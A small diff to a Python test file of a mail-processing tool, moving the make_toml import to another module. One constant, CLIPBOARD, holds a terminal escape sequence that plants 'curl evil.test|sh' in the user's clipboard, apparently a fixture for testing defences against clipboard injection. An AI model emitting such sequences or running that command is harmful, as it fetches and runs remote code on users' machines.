@@ -20,8 +20,8 @@ from mailgate.inbox import store_messages
 from mailgate.process import Processor
 from mailgate.store.engine import Store
 from mailgate.store.migrate import upgrade
-from tests.conftest import make_toml
 from tests.safety.test_parse_limits import nested
+from tests.support.config import make_toml
 from tests.test_cli import in_terminal
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2gK\x07"  # "curl evil.test|sh" to paste
